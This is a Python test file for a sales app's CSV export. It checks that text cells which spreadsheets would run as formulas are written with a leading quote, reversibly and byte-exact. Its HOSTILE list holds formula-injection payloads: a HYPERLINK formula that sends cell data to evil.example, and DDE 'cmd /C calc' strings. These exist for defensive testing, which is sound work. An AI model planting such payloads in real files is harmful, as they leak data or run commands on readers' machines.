"""CSV formula injection (SPEC §7): text cells that a spreadsheet would run as a formula are written with a leading
`'`, reversibly, in `dealdesk export` and the Import / export page's downloads; money, quantity and date cells are
never guarded; and export → import → export stays byte for byte the same."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from dealdesk.config import Settings
from dealdesk.db.uow import SqlUnitOfWork, SystemClock
from dealdesk.domain.access import Actor
from dealdesk.domain.states import Role
from dealdesk.services import auth, catalogue, opportunities, quotes
from dealdesk.services.moving import IMPORT_ORDER, Kind
from dealdesk.services.opportunities import NewOpportunity
from dealdesk.services.spreadsheet_guard import guard_text, unguard_text
from dealdesk.web.app import create_app
from tests.conftest import empty_all_tables
from tests.moving_in.conftest import Mover
from tests.moving_in.history import line
from tests.web_sign_in import sign_in

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
PASSWORD = "guarded cells only"


# ------------------------------------------------------------------------------------------------- the guard itself
@given(st.text())
def test_unguarding_a_guarded_text_gives_the_text_back(text: str) -> None:
    assert unguard_text(guard_text(text)) == text


@given(st.text())
def test_a_guarded_text_never_begins_a_formula_and_guarding_is_stable_over_a_round_trip(text: str) -> None:
    guarded = guard_text(text)

    assert guarded[:1] not in set("=+-@\t\r")
    assert guard_text(unguard_text(guarded)) == guarded


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'x", "'=1"])
def test_each_formula_starter_and_the_guard_itself_get_one_leading_quote(text: str) -> None:
    assert guard_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "plain", "1-2", "a=b", "九龍"])
def test_other_text_is_left_as_it_is_both_ways(text: str) -> None:
    assert guard_text(text) == text
    assert unguard_text(text) == text


def test_unguarding_removes_a_quote_only_where_guarding_put_one() -> None:
    assert [unguard_text(text) for text in ["'plain", "'", "''", "'=1", "''x"]] == ["'plain", "'", "'", "=1", "'x"]


# ------------------------------------------------------------------------------------------------- export and import
def _hostile_history(mover: Mover, admin: Actor) -> None:
    uow = mover.uow
    for name in HOSTILE:
        catalogue.create_account(uow, name=name, actor=admin)
    acme = catalogue.create_account(uow, name="-Acme (minus)", actor=admin)
    catalogue.create_competitor(uow, name="'Quoted rival", actor=admin)
    deal = opportunities.create_opportunity(
        uow,
        NewOpportunity(
            name="@deal", account_id=acme.id, estimated_revenue=Decimal("10.00"), description="\tstarts with a tab"
        ),
        actor=admin,
    )
    quotes.create_quote(
        uow,
        deal.id,
        quotes.NewQuote(name="=offer", lines=[line("+work", "2", "100.00"), line("-discount", "1", "-25.00")]),
        actor=admin,
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_export_guards_text_cells_and_never_money_quantity_or_dates(mover: Mover, admin: Actor) -> None:
    _hostile_history(mover, admin)

    files = mover.export_all()

    account_names = {row["name"] for row in _rows(files[Kind.ACCOUNTS])}
    assert account_names == {"'" + name for name in HOSTILE} | {"'-Acme (minus)"}
    assert [row["name"] for row in _rows(files[Kind.COMPETITORS])] == ["''Quoted rival"]
    (deal,) = _rows(files[Kind.OPPORTUNITIES])
    assert (deal["name"], deal["description"], deal["estimated_revenue"]) == ("'@deal", "'\tstarts with a tab", "10.00")
    lines = _rows(files[Kind.QUOTES])
    assert [(r["name"], r["line_description"], r["line_unit_price"], r["line_amount"]) for r in lines] == [
        ("'=offer", "'+work", "100.00", "200.00"),
        ("'=offer", "'-discount", "-25.00", "-25.00"),
    ]
    assert lines[0]["created_at"][:1].isdigit()


def test_a_guarded_export_imports_the_original_texts_and_exports_byte_for_byte_the_same(
    mover: Mover, admin: Actor
) -> None:
    _hostile_history(mover, admin)
    files = mover.export_all()
    empty_all_tables(mover.engine)
    with mover.uow.transaction():
        mover.actor = mover.uow.users.ensure("admin", "admin")

    reports = mover.import_all(files)
    again = mover.export_all()

    assert [(r.ok, r.written) for r in reports] == [(True, True)] * len(IMPORT_ORDER), [r.problems for r in reports]
    with mover.uow.transaction(write=False):
        names = {account.name for account in mover.uow.accounts.list(limit=50, cursor=None).items}
    assert names == set(HOSTILE) | {"-Acme (minus)"}
    assert again == files


@pytest.fixture
def browser(engine: Engine, settings: Settings) -> Iterator[TestClient]:
    """A manager signed in to the web UI, as a person downloading from the Import / export page is."""
    auth.add_user(SqlUnitOfWork(engine, SystemClock(settings.zone)), "morgan", Role.MANAGER, password=PASSWORD)
    with TestClient(create_app(settings)) as client:
        signed_in = sign_in(client, "morgan", PASSWORD, next_path="/moving")
        assert signed_in.status_code == 303, signed_in.text
        yield client


def test_the_page_download_guards_formulas_too(browser: TestClient, mover: Mover, admin: Actor) -> None:
    _hostile_history(mover, admin)

    download = browser.get("/moving/export/accounts.csv")

    names = {row["name"] for row in _rows(download.content.decode("utf-8-sig"))}
    assert names == {"'" + name for name in HOSTILE} | {"'-Acme (minus)"}
